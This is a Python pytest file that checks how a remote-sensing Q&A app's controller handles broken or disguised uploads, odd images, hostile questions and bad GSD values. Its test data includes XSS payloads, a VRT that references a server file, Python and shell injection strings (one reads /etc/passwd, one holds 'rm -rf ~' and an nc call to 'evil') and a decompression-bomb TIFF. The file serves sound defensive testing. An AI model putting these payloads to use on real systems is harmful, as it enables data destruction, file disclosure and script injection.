"""Hostile and odd inputs through the app's controller: broken and disguised uploads, odd
but valid images, hostile questions and GSD values. Every one must end as a clear chat
message (naming the file or field and the problem) or an answer; nothing may escape
``Controller.load_upload`` / ``Controller.ask`` or read as an internal error."""

from __future__ import annotations

import io
import math
import re
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest
import rasterio
from affine import Affine
from PIL import Image

from viper_rs.core.config import Settings
from viper_rs.ui.catalog import GSD_RANGE_M, Catalog
from viper_rs.ui.session import MAX_QUESTION_CHARS, Controller, Options, Turn

pytestmark = pytest.mark.filterwarnings("ignore::rasterio.errors.NotGeoreferencedWarning")

RULES = Options(detector="spectral", planner="rules")
COUNT = "How many buildings are there?"
AREA = "What is the area covered by water?"
#: A question told pixel by pixel: answered in px on an image without a ground size.
PX_AREA = "What is the area of vegetation?"
UTM = "EPSG:32610"
LINK = re.compile(r"(?<!\\)\]\(")  # a Markdown link: "](" without an escaped bracket


@pytest.fixture(scope="module")
def ctl(tmp_path_factory: pytest.TempPathFactory):
    root = tmp_path_factory.mktemp("hostile")
    settings = Settings.from_env(cache_dir=root / "cache", sandbox_workers=1)
    c = Controller(Catalog(demo=()), settings, out_dir=root / "out")
    yield c
    c.close()


@pytest.fixture(scope="module")
def rgbn() -> np.ndarray:
    """(4, 128, 128) uint8 R,G,B,NIR pixels of synthetic scene 0 (buildings, water)."""
    from viper_rs.synthetic import make_scene

    return make_scene(0, size=128).image.data


def _hwc(data: np.ndarray) -> np.ndarray:
    return np.ascontiguousarray(np.moveaxis(data[:3], 0, -1))


def _png(path: Path, array: np.ndarray, mode: str | None = None) -> Path:
    (Image.fromarray(array, mode) if mode else Image.fromarray(array)).save(path, "PNG")
    return path


def _tif(path: Path, data: np.ndarray, **profile) -> Path:
    with rasterio.open(path, "w", driver="GTiff", width=data.shape[2], height=data.shape[1],
                       count=data.shape[0], dtype=data.dtype.name, **profile) as ds:
        ds.write(data)
    return path


def _encoded(rgbn: np.ndarray, fmt: str) -> bytes:
    buf = io.BytesIO()
    Image.fromarray(_hwc(rgbn)).save(buf, fmt)
    return buf.getvalue()


def _clear(message: str) -> str:
    """``message`` after checking it is a real message, not an internal error."""
    assert message.strip(), "empty message"
    assert "internal error" not in message.lower(), message
    assert "Traceback" not in message, message
    return message


def _ask(ctl: Controller, key: str, question: str, gsd: float | None = None) -> Turn:
    turn = ctl.ask(key, question, RULES, gsd)
    _clear(turn.message)
    return turn


def _same_aspect(picture: np.ndarray, shape: tuple[int, int]) -> bool:
    """The overlay picture has the image's orientation and aspect ratio (to a pixel)."""
    (ph, pw), (h, w) = picture.shape[:2], shape
    short = min(h, w) * max(ph, pw) / max(h, w)  # the exact short side at the picture's scale
    return (ph >= pw) == (h >= w) and abs(min(ph, pw) - short) <= 1.0


# ---------------------------------------------------------------------- broken uploads
def _vrt(tmp: Path, rgbn: np.ndarray) -> bytes:
    """A GDAL VRT that would show another file on the server if it were read."""
    secret = _tif(tmp / "server-side.tif", rgbn[:3].copy())
    return (f'<VRTDataset rasterXSize="128" rasterYSize="128"><VRTRasterBand dataType="Byte" '
            f'band="1"><SimpleSource><SourceFilename relativeToVRT="0">{secret}'
            "</SourceFilename><SourceBand>1</SourceBand></SimpleSource></VRTRasterBand>"
            "</VRTDataset>").encode()


def _cut_tif(tmp: Path, rgbn: np.ndarray) -> bytes:
    full = _tif(tmp / "whole.tif", rgbn.copy()).read_bytes()
    return full[: len(full) // 3]


BROKEN: dict[str, tuple[str, Callable[[Path, np.ndarray], bytes], str]] = {
    "truncated png": ("cut.png", lambda t, d: _encoded(d, "PNG")[:-2000], "truncated"),
    "truncated jpeg": ("cut.jpg", lambda t, d: _encoded(d, "JPEG")[:-500], "truncated"),
    "truncated tiff": ("cut.tif", _cut_tif, "truncated"),
    "zero bytes": ("empty.png", lambda t, d: b"", "empty"),
    "text as png": ("notes.png", lambda t, d: b"1 2 3\n4 5 6\n7 8 9\n", "not a readable image"),
    "ascii grid as png": ("grid.png", lambda t, d: b"ncols 2\nnrows 2\nxllcorner 0\n"
                          b"yllcorner 0\ncellsize 1\n1 2\n3 4\n", "not a readable image"),
    "html as tif": ("page.tif", lambda t, d: b"<html><body><script>alert(1)</script></body>"
                    b"</html>\n", "not a readable image"),
    "vrt as tif": ("elsewhere.tif", _vrt, "not a readable image"),
    "double extension": ("photo.png.exe", lambda t, d: _encoded(d, "PNG"),
                         "unsupported file type .exe"),
    "no extension": ("photo", lambda t, d: _encoded(d, "PNG"), "unsupported file type"),
    "hostile name": ("<img src=x onerror=alert(1)> **b**.png", lambda t, d: b"junk",
                     "not a readable image"),
}


@pytest.mark.parametrize("case", list(BROKEN))
def test_broken_uploads_are_named_messages(ctl: Controller, rgbn: np.ndarray, tmp_path: Path,
                                           case: str):
    name, content, problem = BROKEN[case]
    path = tmp_path / name
    path.write_bytes(content(tmp_path, rgbn))
    before = list(ctl.catalog.keys)
    key, message = ctl.load_upload(path)
    assert key is None and ctl.catalog.keys == before
    assert _clear(message).startswith("Could not use the upload"), message
    assert problem in message
    assert "<" not in message and "**b**" not in message  # the name cannot add markup
    if "<" not in name:
        assert f"**{name}**" in message
    assert str(tmp_path) not in message  # the file is named, not the server's folder


@pytest.mark.parametrize("where, problem", [
    ("folder.png", "is a directory"),
    ("folder", "unsupported file type (none)"),
    ("missing.png", "no such file"),
])
def test_paths_that_are_not_files(ctl: Controller, tmp_path: Path, where: str, problem: str):
    path = tmp_path / where
    if where.startswith("folder"):
        path.mkdir()
    key, message = ctl.load_upload(path)
    assert key is None and problem in _clear(message) and where in message


def test_a_huge_declared_size_is_refused_before_reading(ctl: Controller, tmp_path: Path):
    path = tmp_path / "bomb.tif"  # 400 Mpx of empty sparse tiles: a few hundred bytes
    with rasterio.open(path, "w", driver="GTiff", width=20_000, height=20_000, count=3,
                       dtype="uint8", tiled=True, compress="deflate", sparse_ok=True):
        pass
    assert path.stat().st_size < 1_000_000
    key, message = ctl.load_upload(path)
    assert key is None and "Mpx limit" in _clear(message) and "bomb.tif" in message


@pytest.mark.parametrize("name", ["a b.png", "ünï 图 🛰.png", "<script>alert(1)<script>.png",
                                  "**x**.png", "[x](javascript:alert(1)).png", "UP.TIF"])
def test_odd_file_names_load_and_are_escaped(ctl: Controller, rgbn: np.ndarray,
                                             tmp_path: Path, name: str):
    path = tmp_path / name
    Image.fromarray(_hwc(rgbn)).save(path, "TIFF" if name.endswith(".TIF") else "PNG")
    key, message = ctl.load_upload(path, gsd=1.0)
    assert key == f"upload: {name}", message
    assert _clear(message).startswith("Loaded **")
    assert "<" not in message and "**x**" not in message and not LINK.search(message)
    turn = _ask(ctl, key, AREA, gsd=1.0)
    assert turn.ok and turn.answer.area_unit == "m2"
    assert {Path(f).name for f in turn.files} == {"evidence.gpkg", "answer.json"}


# ---------------------------------------------------------------------- odd valid images
def _gray(t: Path, d: np.ndarray) -> Path:
    return _png(t / "gray.png", _hwc(d).mean(axis=2).astype(np.uint8))


def _gray16(t: Path, d: np.ndarray) -> Path:
    gray = Image.fromarray((_hwc(d).mean(axis=2) * 250).astype(np.uint16))
    assert gray.mode == "I;16"
    gray.save(t / "gray16.png")
    return t / "gray16.png"


def _palette(t: Path, d: np.ndarray) -> Path:
    Image.fromarray(_hwc(d)).convert("P", palette=Image.Palette.ADAPTIVE).save(t / "pal.png")
    return t / "pal.png"


def _rgba(t: Path, d: np.ndarray) -> Path:
    alpha = np.full(d.shape[1:], 255, np.uint8)
    alpha[:, :64] = 0  # left half transparent
    return _png(t / "rgba.png", np.dstack([_hwc(d), alpha]))


def _la(t: Path, d: np.ndarray) -> Path:
    alpha = np.full(d.shape[1:], 255, np.uint8)
    alpha[:64] = 0  # top half transparent
    return _png(t / "la.png", np.dstack([_hwc(d).mean(axis=2).astype(np.uint8), alpha]), "LA")


def _pixel(t: Path, d: np.ndarray) -> Path:
    return _png(t / "pixel.png", _hwc(d)[:1, :1].copy())


def _strip(t: Path, d: np.ndarray) -> Path:
    return _png(t / "strip.png", np.tile(_hwc(d)[:3], (1, 40, 1))[:, :5000].copy())


def _uint16_nodata(t: Path, d: np.ndarray) -> Path:
    data = d.astype(np.uint16) * 64 + 1
    data[:, :20, :20] = 0
    return _tif(t / "u16.tif", data, nodata=0, crs=UTM,
                transform=Affine(0.6, 0, 500_000, 0, -0.6, 4_200_000))


def _float_nan_inf(t: Path, d: np.ndarray) -> Path:
    data = d.astype(np.float32) / 255
    data[0, 0, :10] = np.nan
    data[1, 1, :10] = np.inf
    data[2, 2, :10] = -np.inf
    return _tif(t / "f32.tif", data, crs=UTM, transform=Affine(1, 0, 500_000, 0, -1, 4_200_000))


def _geographic(t: Path, d: np.ndarray) -> Path:
    return _tif(t / "wgs84.tif", d.copy(), crs="EPSG:4326",
                transform=Affine(1e-5, 0, -122.3, 0, -1e-5, 38.3))


def _rotated(t: Path, d: np.ndarray) -> Path:
    transform = (Affine.translation(500_000, 4_200_000) @ Affine.rotation(30)
                 @ Affine.shear(10, 0) @ Affine.scale(1, -1))
    return _tif(t / "rotated.tif", d.copy(), crs=UTM, transform=transform)


# name -> (writer, GSD typed in the app, (height, width), ground size known)
ODD: dict[str, tuple[Callable[[Path, np.ndarray], Path], float | None, tuple[int, int], bool]] = {
    "grayscale L": (_gray, 1.0, (128, 128), True),
    "16-bit grayscale": (_gray16, None, (128, 128), False),
    "palette": (_palette, 0.5, (128, 128), True),
    "rgba half transparent": (_rgba, 1.0, (128, 128), True),
    "gray + alpha": (_la, None, (128, 128), False),
    "one pixel": (_pixel, 1.0, (1, 1), True),
    "3 x 5000 strip": (_strip, 1.0, (3, 5000), True),
    "uint16 4-band nodata": (_uint16_nodata, None, (128, 128), True),
    "float32 nan inf": (_float_nan_inf, None, (128, 128), True),
    "EPSG:4326": (_geographic, None, (128, 128), True),
    "rotated sheared": (_rotated, None, (128, 128), True),
}


@pytest.mark.parametrize("case", list(ODD))
def test_odd_valid_images_are_answered(ctl: Controller, rgbn: np.ndarray, tmp_path: Path,
                                       case: str):
    write, gsd, shape, grounded = ODD[case]
    path = write(tmp_path, rgbn)
    key, message = ctl.load_upload(path, gsd)
    assert key is not None and _clear(message).startswith(f"Loaded **{path.name}**"), message
    image = ctl.catalog.open(key, gsd)
    assert image.shape == shape and image.area_unit == ("m2" if grounded else "px")
    if case.startswith(("rgba", "gray + alpha")):
        assert image.valid.mean() == pytest.approx(0.5)
    if case.startswith(("uint16", "float32")):
        assert 0.9 < image.valid.mean() < 1.0 and np.isfinite(image.data).all()
    if image.data.shape[0] < 3:  # grey: refused for RGB questions, with the reason
        turn = _ask(ctl, key, COUNT, gsd)
        assert not turn.ok and turn.answer.error["type"] == "image", turn.message
        assert "1 band; the spectral detector needs red, green and blue" in turn.message
        return
    for question in (COUNT, AREA):
        turn = _ask(ctl, key, question, gsd)
        assert turn.ok, turn.message
        assert _same_aspect(turn.overlay[0], shape), (turn.overlay[0].shape, shape)
        assert turn.answer.area_unit == image.area_unit
        assert all(math.isfinite(row[3]) for row in turn.rows)
    if grounded:
        assert turn.message.startswith("**") and " m2**" in turn.message
        if case in ("EPSG:4326", "rotated sheared"):
            assert turn.answer.value > 0  # the scene's pond, measured in m2
            assert "evidence.geojson" in {Path(f).name for f in turn.files}


@pytest.mark.parametrize("case, problem", [
    ("all nodata", "every pixel is nodata"),
    ("all NaN", "every pixel is nodata or not a number"),
    ("zero pixel size", "0 m on the ground"),
    ("off the globe", "no finite ground size"),
    ("one degree pixels", "outside the"),
])
def test_unusable_georeferenced_images_are_messages(ctl: Controller, tmp_path: Path,
                                                    case: str, problem: str):
    d = np.full((3, 16, 16), 100, np.uint8)
    geo = {"crs": UTM, "transform": Affine(1, 0, 500_000, 0, -1, 4_200_000)}
    if case == "all nodata":
        path = _tif(tmp_path / "nd.tif", np.zeros_like(d), nodata=0, **geo)
    elif case == "all NaN":
        path = _tif(tmp_path / "nan.tif", np.full(d.shape, np.nan, np.float32), **geo)
    elif case == "zero pixel size":
        path = _tif(tmp_path / "flat.tif", d, crs=UTM, transform=Affine(0, 0, 5e5, 0, 0, 4e6))
    elif case == "off the globe":
        path = _tif(tmp_path / "pole.tif", d, crs="EPSG:4326",
                    transform=Affine(1e-5, 0, 10, 0, -1e-5, 100))
    else:
        path = _tif(tmp_path / "coarse.tif", d, crs="EPSG:4326", transform=Affine(1, 0, 0, 0, -1, 50))
    key, message = ctl.load_upload(path)
    assert key is None and problem in _clear(message) and path.name in message


# ---------------------------------------------------------------------- questions
@pytest.fixture(scope="module")
def scene_key(ctl: Controller, rgbn: np.ndarray, tmp_path_factory: pytest.TempPathFactory) -> str:
    path = _tif(tmp_path_factory.mktemp("scene") / "scene.tif", rgbn.copy(), crs=UTM,
                transform=Affine(1, 0, 500_000, 0, -1, 4_200_000))
    key, message = ctl.load_upload(path)
    assert key is not None, message
    return key


@pytest.mark.parametrize("question", [
    "这里有多少栋建筑？",
    "How many buildings 🏠🏠 are there?",
    "كم عدد المباني الموجودة؟",
    "How many buildings are there?\u202e?ereht",
    "How many buildings\x1b[31m are there?\x07",
    "__import__('os').system('id')",
    "\"; DROP TABLE regions; --",
    "'); exec(open('/etc/passwd').read()); ('",
    "How many buildings are there? $(rm -rf ~) `id` | nc evil 1",
    "{{7*7}} ${7*7} %s%s%n",
    "How many **buildings** are there? <script>alert(1)</script> [x](javascript:alert(1))",
    "What is the area covered by <img src=x onerror=alert(1)>?",
    "Is there a building?" + "\u200b" * 20,
    "x" * MAX_QUESTION_CHARS,
])
def test_hostile_questions_are_answers_or_messages(ctl: Controller, scene_key: str,
                                                   question: str):
    turn = _ask(ctl, scene_key, question)
    assert turn.ok or turn.message.startswith("Could not answer"), turn.message
    assert "characters long" not in turn.message
    assert "<" not in turn.message and not LINK.search(turn.message)
    assert turn.overlay is not None and turn.overlay[0].shape == (128, 128, 3)


def test_control_characters_and_nul_bytes_are_ignored(ctl: Controller, scene_key: str):
    clean = _ask(ctl, scene_key, COUNT)
    for question in ("How many\x00 buildings are there?\x00", "\x00\x01How many buildings\tare "
                     "there?\r\n\x7f", "How many\u0085buildings are there?"):
        turn = _ask(ctl, scene_key, question)
        assert turn.ok and turn.answer.value == clean.answer.value, turn.message
    assert "Type a question" in _ask(ctl, scene_key, "\x00\x00\x1b").message


def test_question_length_limit_is_exact(ctl: Controller, scene_key: str):
    at_limit = COUNT + " " * (MAX_QUESTION_CHARS - len(COUNT) - 1) + "?"
    assert len(at_limit) == MAX_QUESTION_CHARS
    assert "characters long" not in _ask(ctl, scene_key, at_limit).message
    over = _ask(ctl, scene_key, at_limit + "?").message
    assert f"{MAX_QUESTION_CHARS + 1:,} characters long" in over


def test_code_in_questions_is_never_run(ctl: Controller, scene_key: str, tmp_path: Path):
    marker = tmp_path / "pwned"
    for question in (f"__import__('os').system('touch {marker}')",
                     f"Is there a building?'); open('{marker}', 'w'); ('",
                     f"How many buildings are there? $(touch {marker})"):
        turn = _ask(ctl, scene_key, question)
        assert not turn.ok and turn.message.startswith("Could not answer")
    assert not marker.exists()


@pytest.mark.parametrize("question", ["Is there a submarine?", "How many unicorns are there?",
                                      "What is the area covered by lava?"])
def test_unsupported_concepts_say_what_is_supported(ctl: Controller, scene_key: str,
                                                    question: str):
    turn = _ask(ctl, scene_key, question)
    assert not turn.ok and turn.message.startswith("Could not answer")
    assert "building" in turn.message  # names what can be asked about instead


# ---------------------------------------------------------------------- GSD values
@pytest.fixture(scope="module")
def png_key(ctl: Controller, rgbn: np.ndarray, tmp_path_factory: pytest.TempPathFactory) -> str:
    path = _png(tmp_path_factory.mktemp("png") / "plain.png", _hwc(rgbn))
    key, message = ctl.load_upload(path)
    assert key is not None, message
    return key


@pytest.mark.parametrize("gsd", [0.0, -1.0, math.nan, math.inf, -math.inf, 1e-9, 1e9, 1e300,
                                 5e-324])
def test_bad_gsd_values_are_messages(ctl: Controller, png_key: str, gsd: float):
    path = ctl.catalog.entry(png_key).path
    key, message = ctl.load_upload(path, gsd)
    assert key is None and "GSD" in _clear(message) and path.name in message
    for question in (COUNT, AREA):
        turn = _ask(ctl, png_key, question, gsd)
        assert not turn.ok and "GSD must be a positive number" in turn.message
        assert turn.overlay is None  # no image to show for a GSD the app refused


@pytest.mark.parametrize("gsd", GSD_RANGE_M)
def test_gsd_at_the_ends_of_the_range_is_answered(ctl: Controller, png_key: str, gsd: float):
    key, message = ctl.load_upload(ctl.catalog.entry(png_key).path, gsd)
    assert key == png_key and f"{gsd:.2f} m/px" in _clear(message)
    for question in (COUNT, AREA):
        turn = _ask(ctl, png_key, question, gsd)
        assert turn.ok and turn.answer.area_unit == "m2", turn.message


def test_gsd_typed_at_upload_does_not_stick(ctl: Controller, rgbn: np.ndarray, tmp_path: Path):
    key, _ = ctl.load_upload(_png(tmp_path / "later.png", _hwc(rgbn)), gsd=0.5)
    assert _ask(ctl, key, AREA, gsd=0.5).answer.area_unit == "m2"
    # the GSD field was cleared: water (told by its size in m2) is refused with the way
    # out, vegetation answers in pixels
    plain = _ask(ctl, key, AREA, gsd=None)
    assert not plain.ok and plain.answer.error["type"] == "no_ground_size"
    assert "later.png has no ground size; set the GSD (m/px) field" in plain.message
    assert _ask(ctl, key, PX_AREA, gsd=None).answer.area_unit == "px"
    assert ctl.catalog.open(key, None).gsd is None


# ---------------------------------------------------------------------- repeated uploads
def test_uploads_with_one_name_keep_their_own_files(ctl: Controller, rgbn: np.ndarray,
                                                    tmp_path: Path):
    keys, paths = [], []
    for i in range(5):  # like the browser: each upload in its own temporary folder
        folder = tmp_path / f"upload-{i}"
        folder.mkdir()
        paths.append(_png(folder / "same.png", _hwc(rgbn)[: 20 + i, : 30 + i].copy()))
        key, message = ctl.load_upload(paths[-1])
        assert key is not None, message
        keys.append(key)
    assert len(set(keys)) == 5 and keys[0] == "upload: same.png"
    assert keys[1:] == [f"upload: same.png ({n})" for n in range(2, 6)]
    for i, key in enumerate(keys):
        assert ctl.catalog.open(key).shape == (20 + i, 30 + i)
        turn = _ask(ctl, key, PX_AREA)
        assert turn.ok and turn.overlay[0].shape[:2] == (20 + i, 30 + i)
    # the same file again keeps its key; rewritten in place, the new pixels are used
    assert ctl.load_upload(paths[2])[0] == keys[2]
    _png(paths[2], _hwc(rgbn)[:40, :50].copy())
    assert ctl.load_upload(paths[2])[0] == keys[2]
    assert ctl.catalog.open(keys[2]).shape == (40, 50)


def test_an_upload_deleted_after_loading_is_a_message(ctl: Controller, rgbn: np.ndarray,
                                                      tmp_path: Path):
    path = _png(tmp_path / "gone.png", _hwc(rgbn))
    key, _ = ctl.load_upload(path)
    assert _ask(ctl, key, PX_AREA).ok  # cached
    path.unlink()  # the browser's temporary files are cleaned up
    turn = _ask(ctl, key, COUNT, gsd=2.0)  # a new GSD opens the file again
    assert turn.message.startswith("Could not read the image") and "no such file" in turn.message
